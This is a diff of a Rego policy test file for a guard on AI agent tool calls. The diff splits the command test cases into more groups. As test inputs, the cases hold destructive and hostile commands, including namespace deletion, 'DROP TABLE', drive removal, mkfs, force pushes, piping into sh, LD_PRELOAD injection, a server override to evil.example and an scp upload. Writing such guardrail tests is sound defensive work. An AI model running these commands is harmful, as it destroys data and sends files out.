@@ -26,6 +26,14 @@ cases_1 := {
 	"git_command: background": {"tool": "git_command", "arguments": {"command": "status & echo x"}, "rules": {"commands.operators"}},
 	"docker_exec: redirection": {"tool": "docker_exec", "arguments": {"container": "web", "command": "ls > /x"}, "rules": {"commands.operators"}},
 	"az_cli: backquotes": {"tool": "az_cli", "arguments": {"command": "az vm list --query `id`"}, "rules": {"commands.substitution"}},
+}
+
+test_commands_2[name] if {
+	some name, c in cases_2
+	found(c) == c.rules
+}
+
+cases_2 := {
 	"kubectl_generic: split form": {"tool": "kubectl_generic", "arguments": {"command": "get", "args": ["pods", "--kubeconfig", "/x"]}, "rules": {"commands.option"}},
 	"kubectl_generic: joined short form": {"tool": "kubectl_generic", "arguments": {"command": "get", "args": ["pods", "-shttps://evil.example"]}, "rules": {"commands.option"}},
 	"kubectl_generic: joined form": {"tool": "kubectl_generic", "arguments": {"command": "get", "args": ["pods", "--token=abc"]}, "rules": {"commands.option"}},
@@ -38,12 +46,12 @@ cases_1 := {
 	"start_process: process substitution": {"tool": "start_process", "arguments": {"command": "cat <(iptables -L)", "timeout_ms": 1000}, "rules": {"commands.allow", "commands.operators", "commands.program", "commands.substitution"}},
 }
 
-test_commands_2[name] if {
-	some name, c in cases_2
+test_commands_3[name] if {
+	some name, c in cases_3
 	found(c) == c.rules
 }
 
-cases_2 := {
+cases_3 := {
 	"start_process: path": {"tool": "start_process", "arguments": {"command": "/sbin/iptables -L", "timeout_ms": 1000}, "rules": {"commands.allow", "commands.program"}},
 	"start_process: relative path": {"tool": "start_process", "arguments": {"command": "./../../sbin/iptables", "timeout_ms": 1000}, "rules": {"commands.allow", "commands.program"}},
 	"start_process: quotes inside": {"tool": "start_process", "arguments": {"command": "ip\"table\"s -L", "timeout_ms": 1000}, "rules": {"commands.allow", "commands.program"}},
@@ -54,6 +62,14 @@ cases_2 := {
 	"start_process: second command (2)": {"tool": "start_process", "arguments": {"command": "git status && iptables -L", "timeout_ms": 1000}, "rules": {"commands.allow", "commands.operators", "commands.program"}},
 	"start_process: second line": {"tool": "start_process", "arguments": {"command": "git status\niptables -L", "timeout_ms": 1000}, "rules": {"commands.allow", "commands.operators", "commands.program"}},
 	"start_process: pipe to a shell": {"tool": "start_process", "arguments": {"command": "git log | sh", "timeout_ms": 1000}, "rules": {"commands.allow", "commands.inline"}},
+}
+
+test_commands_4[name] if {
+	some name, c in cases_4
+	found(c) == c.rules
+}
+
+cases_4 := {
 	"start_process: inline": {"tool": "start_process", "arguments": {"command": "bash -c 'iptables -L'", "timeout_ms": 1000}, "rules": {"commands.allow", "commands.inline"}},
 	"start_process: inline (2)": {"tool": "start_process", "arguments": {"command": "python3 -c 'print(1)'", "timeout_ms": 1000}, "rules": {"commands.allow", "commands.inline"}},
 	"start_process: eval": {"tool": "start_process", "arguments": {"command": "eval iptables", "timeout_ms": 1000}, "rules": {"commands.allow", "commands.inline", "commands.program"}},
@@ -66,12 +82,12 @@ cases_2 := {
 	"Bash: ripgrep runs a program": {"tool": "Bash", "arguments": {"command": "rg --pre=id x"}, "rules": {"commands.allow", "commands.option"}},
 }
 
-test_commands_3[name] if {
-	some name, c in cases_3
+test_commands_5[name] if {
+	some name, c in cases_5
 	found(c) == c.rules
 }
 
-cases_3 := {
+cases_5 := {
 	"Bash: find runs a program": {"tool": "Bash", "arguments": {"command": "find . -exec id {} +"}, "rules": {"commands.allow"}},
 	"bash: the shell instead of the tool": {"tool": "bash", "arguments": {"command": "kubectl delete namespace prod"}, "rules": {"commands.allow", "commands.destructive"}},
 	"terminal: the shell instead of the database tool": {"tool": "terminal", "arguments": {"command": "psql -c 'DROP TABLE users'"}, "rules": {"commands.allow"}},
@@ -82,6 +98,14 @@ cases_3 := {
 	"shell: drive removed": {"tool": "shell", "arguments": {"command": "rmdir /s /q D:\\"}, "rules": {"commands.allow", "commands.destructive", "commands.path"}},
 	"bash: database reset": {"tool": "bash", "arguments": {"command": "npx prisma migrate reset --force"}, "rules": {"commands.allow", "commands.destructive"}},
 	"bash: database reset (2)": {"tool": "bash", "arguments": {"command": "npx supabase db reset"}, "rules": {"commands.allow", "commands.destructive"}},
+}
+
+test_commands_6[name] if {
+	some name, c in cases_6
+	found(c) == c.rules
+}
+
+cases_6 := {
 	"bash: history rewritten": {"tool": "bash", "arguments": {"command": "git push --force origin main"}, "rules": {"commands.destructive"}},
 	"bash: work thrown away": {"tool": "bash", "arguments": {"command": "git reset --hard HEAD~3"}, "rules": {"commands.destructive"}},
 	"bash: work thrown away (2)": {"tool": "bash", "arguments": {"command": "git clean -fdx"}, "rules": {"commands.destructive"}},
@@ -94,12 +118,12 @@ cases_3 := {
 	"run: variable in an object": {"tool": "run", "arguments": {"command": "git status", "env": {"LD_PRELOAD": "/x.so"}}, "rules": {"commands.environment"}},
 }
 
-test_commands_4[name] if {
-	some name, c in cases_4
+test_commands_7[name] if {
+	some name, c in cases_7
 	found(c) == c.rules
 }
 
-cases_4 := {
+cases_7 := {
 	"run: plain variable in an object": {"tool": "run", "arguments": {"command": "git status", "env": {"NODE_ENV": "test"}}, "rules": set()},
 	"run_commands: list of command lines": {"tool": "run_commands", "arguments": {"commands": ["git status", "sudo reboot now"]}, "rules": {"commands.allow", "commands.program"}},
 	"bash: script in a shell tool": {"tool": "bash", "arguments": {"script": "cat a; sudo id"}, "rules": {"commands.allow", "commands.operators", "commands.program"}},
@@ -109,6 +133,14 @@ cases_4 := {
 	"bash: copy to another machine": {"tool": "bash", "arguments": {"command": "scp a user@host.example:/x"}, "rules": {"commands.allow", "commands.upload"}},
 	"bash: file system destroyed": {"tool": "bash", "arguments": {"command": "mkfs.ext4 x"}, "rules": {"commands.allow", "commands.program"}},
 	"bash: here-document for an interpreter": {"tool": "bash", "arguments": {"command": "python3 <<EOF\nprint(1)\nEOF"}, "rules": {"commands.allow", "commands.inline", "commands.operators"}},
+}
+
+test_commands_8[name] if {
+	some name, c in cases_8
+	found(c) == c.rules
+}
+
+cases_8 := {
 	"bash: database reset (3)": {"tool": "bash", "arguments": {"command": "npx prisma migrate reset --force"}, "rules": {"commands.allow", "commands.destructive"}},
 	"bash: message about a reset": {"tool": "bash", "arguments": {"command": "git commit -m 'db: reset'"}, "rules": set()},
 	"bash: option of a script": {"tool": "bash", "arguments": {"command": "python3 a.py -c x"}, "rules": {"commands.allow"}},
